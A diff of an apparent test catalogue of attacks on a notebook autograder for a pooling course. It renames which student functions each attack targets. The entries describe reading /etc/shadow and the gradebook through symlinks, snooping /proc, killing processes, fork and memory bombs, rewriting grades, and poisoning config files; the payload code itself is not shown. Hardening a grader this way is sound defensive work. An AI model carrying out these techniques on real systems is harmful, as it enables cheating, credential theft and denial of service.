-           "avg_pool2d_loops runs poolkit.avg_pool2d from code exec'd from a string, pausing "
-           "sys.setprofile around it", answers={"avg_pool2d_loops": DODGE_EXEC},
-           loses=("avg_pool2d_loops",)),
+           "max_pool2d_loops runs poolkit.max_pool2d from code exec'd from a string, pausing "
+           "sys.setprofile around it", answers={"max_pool2d_loops": DODGE_EXEC},
+           loses=("max_pool2d_loops",)),
     Attack("attack-dodge-lambda-default", L02, "numpy-only-dodge",
            "pool2d_vectorized gets poolkit from a lambda default argument and runs it in a "
            "ThreadPoolExecutor", answers={"pool2d_vectorized": DODGE_LAMBDA_DEFAULT},
@@ -1743,9 +1816,9 @@ _FIRST_ROUND: list[Attack] = [
     Attack("attack-handed-in-poolkit-package", L02, "handed-in-files",
            "a poolkit/ package whose __init__ loads the installed poolkit and puts itself "
            "first on its __path__, with a relaxed checks.py",
-           answers={"avg_pool2d_loops": _zeros("avg_pool2d_loops")},
+           answers={"pool2d_vectorized": _zeros("pool2d_vectorized")},
            files={"poolkit/__init__.py": POOLKIT_SHIM, "poolkit/checks.py": FAKE_CHECKS},
-           loses=("avg_pool2d_loops",)),
+           loses=("pool2d_vectorized",)),
     Attack("attack-handed-in-numpy", L02, "handed-in-files",
            "a numpy.py that loads the real NumPy and patches IPython's shell class so that "
            "test cells become `pass`",
@@ -1758,7 +1831,7 @@ _FIRST_ROUND: list[Attack] = [
     Attack("attack-copy-gradebook-and-peers", L02, "reading-secrets",
            "hard-links or copies gradebook.db and other students' notebooks into the "
            "working folder (correct answers)",
-           added_cells=(("global_avg_pool", STEAL_GRADEBOOK),)),
+           added_cells=(("input_from_pools", STEAL_GRADEBOOK),)),
     Attack("attack-print-hidden-tests", L02, "reading-secrets",
            "max_pool2d_loops prints __main__._ih[-1] (the test cell calling it) so hidden "
            "test source lands in the feedback (correct answer)",
@@ -1768,25 +1841,25 @@ _FIRST_ROUND: list[Attack] = [
            "`python -I` (the reference process)", answers={"max_pool2d_loops": PTH_IN_SITE},
            loses=("max_pool2d_loops",)),
     Attack("attack-edit-checks-on-disk", L02, "escape-and-poison",
-           "appends code to poolkit/checks.py on disk that lets avg_pool2d_loops pass every "
-           "reloaded check", answers={"avg_pool2d_loops": EDIT_CHECKS},
-           loses=("avg_pool2d_loops",)),
+           "appends code to poolkit.checks' source on disk that lets max_pool2d_loops pass "
+           "every reloaded check", answers={"max_pool2d_loops": EDIT_CHECKS},
+           loses=("max_pool2d_loops",)),
     Attack("attack-kill-parent", L02, "killing-the-grader",
            "max_pool2d_loops sends SIGKILL to os.getppid()",
            answers={"max_pool2d_loops": KILL_PARENT}, loses=("max_pool2d_loops",)),
     Attack("attack-killpg", L02, "killing-the-grader",
-           "avg_pool2d_loops kills its own process group (os.killpg(0, SIGKILL))",
-           answers={"avg_pool2d_loops": KILL_GROUP}, loses=("avg_pool2d_loops",)),
+           "max_pool2d_loops kills its own process group (os.killpg(0, SIGKILL))",
+           answers={"max_pool2d_loops": KILL_GROUP}, loses=("max_pool2d_loops",)),
     Attack("attack-bounded-fork-bomb", L02, "killing-the-grader",
            "pool2d_vectorized starts a fork bomb capped at 2000 processes (children sleep 5 s)",
            answers={"pool2d_vectorized": FORK_BOMB}, loses=("pool2d_vectorized",)),
     Attack("attack-huge-file", L02, "killing-the-grader",
-           "global_avg_pool writes a 6 GiB file into the working folder",
-           answers={"global_avg_pool": HUGE_FILE}, loses=("global_avg_pool",)),
+           "input_from_pools writes a 6 GiB file into the working folder",
+           answers={"input_from_pools": HUGE_FILE}, loses=("input_from_pools",)),
     Attack("attack-segfault", L02, "killing-the-grader",
-           "global_avg_pool overflows the C stack (repr of a deeply nested list) and "
-           "segfaults the kernel", answers={"global_avg_pool": SEGFAULT},
-           loses=("global_avg_pool",)),
+           "input_from_pools overflows the C stack (repr of a deeply nested list) and "
+           "segfaults the kernel", answers={"input_from_pools": SEGFAULT},
+           loses=("input_from_pools",)),
     Attack("attack-unclosed-hidden-marker", L02, "feedback-crash",
            "a correct max_pool2d_loops whose comment holds `### BEGIN HIDDEN TESTS` with no END",
            answers={"max_pool2d_loops": UNCLOSED_HIDDEN}),
@@ -1797,160 +1870,169 @@ _FIRST_ROUND: list[Attack] = [
     Attack("attack-symlink-secrets", L02, "other",
            "hands in symlinks to /etc/shadow, /etc/passwd, the gradebook, the config, the "
            "course root and / and prints what it can read through them (correct answers)",
-           added_cells=(("global_avg_pool", SYMLINK_READER),),
+           added_cells=(("input_from_pools", SYMLINK_READER),),
            files={"shadow": Symlink("/etc/shadow"), "passwd": Symlink("/etc/passwd"),
                   "gradebook.db": Symlink("../../../gradebook.db"),
                   "config.py": Symlink("../../../nbgrader_config.py"),
                   "course": Symlink("../../.."), "root": Symlink("/")}),
     Attack("attack-symlink-loops", L02, "other",
            "hands in a self-referencing link, a dangling link and a link chain (correct answers)",
-           added_cells=(("global_avg_pool", SYMLINK_LOOPS_CELL),),
+           added_cells=(("input_from_pools", SYMLINK_LOOPS_CELL),),
            files={"loop": Symlink("loop"), "missing": Symlink("/nonexistent/grader/file"),
                   "deep": Symlink("loop")}),
     Attack("attack-rigged-subclass", L02, "other",
-           "avg_pool2d_loops returns an ndarray subclass with rigged ==, ufuncs, tolist, "
-           "tobytes and pickling", answers={"avg_pool2d_loops": RIGGED_SUBCLASS},
-           loses=("avg_pool2d_loops",)),
+           "max_pool2d_loops returns an ndarray subclass with rigged ==, ufuncs, tolist, "
+           "tobytes and pickling", answers={"max_pool2d_loops": RIGGED_SUBCLASS},
+           loses=("max_pool2d_loops",)),
     Attack("attack-huge-broadcast-array", L02, "other",
            "pool2d_vectorized returns a broadcast view that is 80 GB as data",
            answers={"pool2d_vectorized": HUGE_ARRAY}, loses=("pool2d_vectorized",)),
     Attack("attack-print-flood", L02, "other",
-           "global_avg_pool prints 2 MB on every call and a cell prints 64 lines of 1 MB "
-           "(correct answers)", answers={"global_avg_pool": PRINT_FLOOD_FN},
-           added_cells=(("global_avg_pool", PRINT_FLOOD_CELL),)),
+           "input_from_pools prints 2 MB on every call and a cell prints 64 lines of 1 MB "
+           "(correct answers)", answers={"input_from_pools": PRINT_FLOOD_FN},
+           added_cells=(("input_from_pools", PRINT_FLOOD_CELL),)),
     # --------------------------------------------------------------- lesson 05
     Attack("attack-user-ns-want", L05, "expected-in-process",
            "keras_same_max_pool2d returns the visible test's `want` from "
            "get_ipython().user_ns and `want` from frames for the oracle checks",
-           answers={"keras_same_max_pool": USER_NS_WANT}, loses=("keras_same_max_pool",)),
-    Attack("attack-user-ns-autograd-dx", L05, "expected-in-process",
-           "max_pool2d_backward calls the test cell's own autograd_dx from user_ns, and "
-           "reads `want` from frames", answers={"max_pool_backward": USER_NS_AUTOGRAD},
-           loses=("max_pool_backward",)),
+           answers={"keras_same_max_pool": keras_cell(USER_NS_WANT)},
+           loses=("keras_same_max_pool",)),
+    Attack("attack-user-ns-bridges", L05, "expected-in-process",
+           "pool_nets calls the instructor's answers the hidden test loaded (`bridges` in "
+           "user_ns), and reads `want` from frames", answers={"pool_nets": USER_NS_BRIDGES},
+           loses=("pool_nets",)),
     Attack("attack-gc-expected-arrays", L05, "expected-in-process",
-           "the layout functions search gc.get_objects for an expected entry with the moved "
-           "axes' shape and their input's values", answers={"channels_layout": GC_OBJECTS_LAYOUT},
-           loses=("channels_layout",)),
+           "keras_same_max_pool2d searches gc.get_objects for an expected entry with the "
+           "'same' output shape and only its input's values",
+           answers={"keras_same_max_pool": keras_cell(GC_OBJECTS_POOLED)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-inspect-stack-padding", L05, "expected-in-process",
-           "same_padding reads `want` from inspect.stack (exercise 3 written without "
-           "same_padding)", answers={"same_padding": INSPECT_PADDING, **STANDALONE_L3},
-           loses=("same_padding",)),
+           "same_padding reads `want` from inspect.stack (keras_same_max_pool2d written "
+           "without same_padding)", answers={"keras_same_max_pool": keras_cell(INSPECT_PADDING)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-sys-modules-checks", L05, "rebinding",
            "sys.modules['poolkit.checks'] and poolkit.checks replaced, and a meta_path finder "
-           "serves the relaxed module on reload", answers={"channels_layout": SYS_MODULES},
-           loses=("channels_layout",)),
+           "serves the relaxed module on reload", answers={"torch_to_keras": SYS_MODULES},
+           loses=("torch_to_keras",)),
     Attack("attack-reloading-table", L05, "rebinding",
            "importlib._RELOADING['poolkit.checks'] set, so reload returns a relaxed module "
-           "without reading the file", answers={"same_padding": RELOADING_TABLE,
-                                                **STANDALONE_L3},
-           loses=("same_padding",)),
+           "without reading the file (same_padding wrong)",
+           answers={"keras_same_max_pool": keras_cell(RELOADING_TABLE)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-input-transformer-pass", L05, "rebinding",
            "input_transformers_post turns every cell mentioning poolkit.checks into `pass`",
-           answers={"keras_same_max_pool": INPUT_TRANSFORMER}, loses=("keras_same_max_pool",)),
+           answers={"keras_same_max_pool": keras_cell(INPUT_TRANSFORMER)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-hide-errors", L05, "rebinding",
            "set_custom_exc, sys.excepthook, class-level showtraceback and "
            "ExecutionResult.success patched so failing cells look passed",
-           answers={"max_pool_backward": HIDE_ERRORS}, loses=("max_pool_backward",)),
+           answers={"pool_nets": HIDE_ERRORS}, loses=("pool_nets",)),
     Attack("attack-dodge-import-join", L05, "numpy-only-dodge",
-           "the layout functions use torch via __import__(''.join(...)) and map over "
-           "torch's C functions", answers={"channels_layout": DODGE_IMPORT_JOIN},
-           loses=("channels_layout",)),
+           "torch_to_keras asks torch (__import__(''.join(...)), map over its C functions) "
+           "for torch's output size", answers={"torch_to_keras": DODGE_IMPORT_JOIN},
+           loses=("torch_to_keras",)),
     Attack("attack-dodge-partial", L05, "numpy-only-dodge",
-           "the layout functions are functools.partial objects over poolkit.bridges (in a "
-           "tuple), pausing sys.setprofile", answers={"channels_layout": DODGE_PARTIAL},
-           loses=("channels_layout",)),
+           "keras_same_max_pool2d is a functools.partial over poolkit.max_pool2d (in a "
+           "tuple), pausing sys.setprofile",
+           answers={"keras_same_max_pool": keras_cell(DODGE_PARTIAL)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-dodge-import-module", L05, "numpy-only-dodge",
-           "keras_same_max_pool2d runs poolkit.keras_pool2d via importlib.import_module in a "
-           "_thread", answers={"keras_same_max_pool": DODGE_IMPORT_MODULE},
+           "keras_same_max_pool2d runs poolkit.max_pool2d via importlib.import_module in a "
+           "_thread", answers={"keras_same_max_pool": keras_cell(DODGE_IMPORT_MODULE)},
            loses=("keras_same_max_pool",)),
     Attack("attack-dodge-ctypes", L05, "numpy-only-dodge",
-           "max_pool2d_backward imports poolkit through ctypes.pythonapi and pauses the call "
-           "monitor", answers={"max_pool_backward": DODGE_CTYPES},
-           loses=("max_pool_backward",)),
+           "torch_to_keras imports poolkit through ctypes.pythonapi and pauses the call "
+           "monitor to get torch's output size", answers={"torch_to_keras": DODGE_CTYPES},
+           loses=("torch_to_keras",)),
     Attack("attack-handed-in-ipykernel-launcher", L05, "handed-in-files",
            "an ipykernel_launcher.py (python -m puts the working folder first) that patches "
            "the shell class before starting the kernel",
-           answers={"channels_layout": CHANNELS_ZEROS},
-           files={"ipykernel_launcher.py": LAUNCHER_SHIM}, loses=("channels_layout",)),
+           answers={"torch_to_keras": _zeros("torch_to_keras")},
+           files={"ipykernel_launcher.py": LAUNCHER_SHIM}, loses=("torch_to_keras",)),
     Attack("attack-handed-in-sitecustomize", L05, "handed-in-files",
            "a sitecustomize.py next to the notebook that patches IPython's shell once it is "
-           "imported", answers={"max_pool_backward": _zeros("max_pool2d_backward")},
-           files={"sitecustomize.py": SITECUSTOMIZE_HANDED_IN}, loses=("max_pool_backward",)),
+           "imported", answers={"pool_nets": _zeros("pool_nets")},
+           files={"sitecustomize.py": SITECUSTOMIZE_HANDED_IN}, loses=("pool_nets",)),
     Attack("attack-poolkit-path-insert", L05, "handed-in-files",
            "poolkit.__path__.insert(0, 'extras') in an answer, with a relaxed "
-           "extras/checks.py handed in", answers={"keras_same_max_pool": PATH_INSERT},
+           "extras/checks.py handed in", answers={"keras_same_max_pool": keras_cell(PATH_INSERT)},
            files={"extras/checks.py": FAKE_CHECKS}, loses=("keras_same_max_pool",)),
     Attack("attack-read-solutions-dir", L05, "reading-secrets",
            "finds the course root (working folder, poolkit.__file__) and runs the "
-           "instructor's max_pool2d_backward from solutions/",
-           answers={"max_pool_backward": READ_SOLUTIONS}, loses=("max_pool_backward",)),
+           "instructor's torch_to_keras from solutions/",
+           answers={"torch_to_keras": READ_SOLUTIONS}, loses=("torch_to_keras",)),
     Attack("attack-symlink-to-solution", L05, "reading-secrets",
            "hands in notes.txt -> ../../../solutions/<lesson>/<nb>.ipynb and runs the "
-           "instructor's layout functions from it",
-           answers={"channels_layout": SYMLINK_SOLUTION},
+           "instructor's same_padding and keras_same_max_pool2d from it",
+           answers={"keras_same_max_pool": SYMLINK_SOLUTION},
            files={"notes.txt": Symlink("../../../solutions/05-keras-and-pytorch/"
                                        "keras-and-pytorch.ipynb")},
-           loses=("channels_layout",)),
+           loses=("keras_same_max_pool",)),
     Attack("attack-history-in-feedback", L05, "reading-secrets",
            "same_padding prints the shell's history_manager's last input and In[-1] (the "
-           "test cell) so hidden tests reach the feedback (correct answer)",
-           answers={"same_padding": PRINT_HISTORY_05}),
+           "test cell) so hidden tests reach the feedback (correct answers)",
+           answers={"keras_same_max_pool": PRINT_HISTORY_05}),
     Attack("attack-list-tmp-scratch", L05, "reading-secrets",
            "a cell lists /tmp, /var/tmp, /dev/shm and the parent folder and prints the start "
            "of notebooks and databases found there (correct answers)",
-           added_cells=(("channels_layout", LIST_TMP),)),
+           added_cells=(("keras_same_max_pool", LIST_TMP),)),
     Attack("attack-gradebook-manual-scores", L05, "escape-and-poison",
            "opens the course's gradebook.db with sqlite3 and sets its own manual scores to "
-           "full marks", answers={"max_pool_backward": GRADEBOOK_SCORES},
-           loses=("max_pool_backward",)),
+           "full marks", answers={"pool_nets": GRADEBOOK_SCORES}, loses=("pool_nets",)),
     Attack("attack-sitecustomize-in-site-packages", L05, "escape-and-poison",
-           "appends to site-packages/sitecustomize.py so that `python -I` gets identity "
-           "layout conversions", answers={"channels_layout": SITECUSTOMIZE_IN_SITE},
-           loses=("channels_layout",)),
+           "appends to site-packages/sitecustomize.py so that in `python -I` (the reference "
+           "process) the instructor's answers agree with an identity 'same' pooling",
+           answers={"keras_same_max_pool": SITECUSTOMIZE_IN_SITE},
+           loses=("keras_same_max_pool",)),
     Attack("attack-poison-course-files", L05, "escape-and-poison",
            "appends to the course's nbgrader_config.py (no execution next time) and strips "
            "hidden tests from solutions/ (correct answers)",
-           added_cells=(("max_pool_backward", POISON_COURSE),)),
+           added_cells=(("pool_nets", POISON_COURSE),)),
     Attack("attack-kill-everyone", L05, "killing-the-grader",
-           "nchw_to_nhwc sends SIGKILL to -1 (every process it may signal)",
-           answers={"channels_layout": KILL_EVERYONE}, loses=("channels_layout",)),
+           "torch_to_keras sends SIGKILL to -1 (every process it may signal)",
+           answers={"torch_to_keras": KILL_EVERYONE}, loses=("torch_to_keras",)),
     Attack("attack-kill-proc-scan", L05, "killing-the-grader",
-           "same_padding SIGKILLs every pid listed in /proc but its own (exercise 3 written "
-           "without same_padding)", answers={"same_padding": KILL_PROC_SCAN, **STANDALONE_L3},
-           loses=("same_padding",)),
+           "same_padding SIGKILLs every pid listed in /proc but its own (keras_same_max_pool2d "
+           "written without same_padding)", answers={"keras_same_max_pool":
+                                                     keras_cell(KILL_PROC_SCAN)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-os-exit-mid-call", L05, "killing-the-grader",
-           "same_padding calls os._exit(3) (exercise 3 written without same_padding)",
-           answers={"same_padding": OS_EXIT, **STANDALONE_L3}, loses=("same_padding",)),
+           "same_padding calls os._exit(3) (keras_same_max_pool2d written without "
+           "same_padding)", answers={"keras_same_max_pool": keras_cell(OS_EXIT)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-unstoppable-loop", L05, "killing-the-grader",
            "keras_same_max_pool2d ignores SIGALRM/SIGINT/SIGTERM/SIGXCPU and loops forever",
-           answers={"keras_same_max_pool": UNSTOPPABLE_LOOP}, loses=("keras_same_max_pool",)),
+           answers={"keras_same_max_pool": keras_cell(UNSTOPPABLE_LOOP)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-memory-bomb", L05, "killing-the-grader",
-           "max_pool2d_backward allocates and touches up to 32 GiB",
-           answers={"max_pool_backward": MEMORY_BOMB}, loses=("max_pool_backward",)),
+           "pool_nets allocates and touches up to 32 GiB",
+           answers={"pool_nets": MEMORY_BOMB}, loses=("pool_nets",)),
     Attack("attack-markers-in-strings", L05, "feedback-crash",
            "a correct keras_same_max_pool2d with `### BEGIN SOLUTION` and "
            "`### BEGIN HIDDEN TESTS` inside strings and its docstring",
-           answers={"keras_same_max_pool": MARKERS_IN_STRINGS}),
+           answers={"keras_same_max_pool": keras_cell(MARKERS_IN_STRINGS)}),
     Attack("attack-nested-hidden-markers", L05, "feedback-crash",
            "a correct same_padding whose comments open `### BEGIN HIDDEN TESTS` twice",
-           answers={"same_padding": NESTED_HIDDEN}),
+           answers={"keras_same_max_pool": NESTED_HIDDEN}),
     Attack("attack-torch-tensor-result", L05, "other",
-           "max_pool2d_backward computes the right gradient and returns it as a torch tensor",
-           answers={"max_pool_backward": TORCH_RESULT}, loses=("max_pool_backward",)),
+           "pool_nets computes the right outputs and returns them as torch tensors",
+           answers={"pool_nets": TORCH_RESULT}, loses=("pool_nets",)),
     Attack("attack-pickled-npy", L05, "other",
            "np.save / np.lib.format.write_array patched so its (wrong) result leaves the "
            "kernel as a pickle that patches the checks wherever it is loaded",
-           answers={"keras_same_max_pool": PICKLED_NPY}, loses=("keras_same_max_pool",)),
+           answers={"keras_same_max_pool": keras_cell(PICKLED_NPY)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-giant-int", L05, "other",
-           "same_padding returns 5001-digit integers (exercise 3 written without same_padding)",
-           answers={"same_padding": GIANT_INT, **STANDALONE_L3}, loses=("same_padding",)),
+           "same_padding returns 5001-digit integers (keras_same_max_pool2d written without "
+           "same_padding)", answers={"keras_same_max_pool": keras_cell(GIANT_INT)},
+           loses=("keras_same_max_pool",)),
     Attack("attack-html-script-output", L05, "other",
            "a cell displays HTML with <script> and an onerror handler that calls the "
            "formgrader API (correct answers)",
-           added_cells=(("same_padding", HTML_OUTPUT),)),
+           added_cells=(("keras_same_max_pool", HTML_OUTPUT),)),
     Attack("attack-proc-snoop", L05, "other",
            "a cell reads /proc/*/cmdline and environ, its mounts and its parent's open files "
-           "(correct answers)", added_cells=(("same_padding", PROC_SNOOP),)),
+           "(correct answers)", added_cells=(("keras_same_max_pool", PROC_SNOOP),)),
 ]
 
 
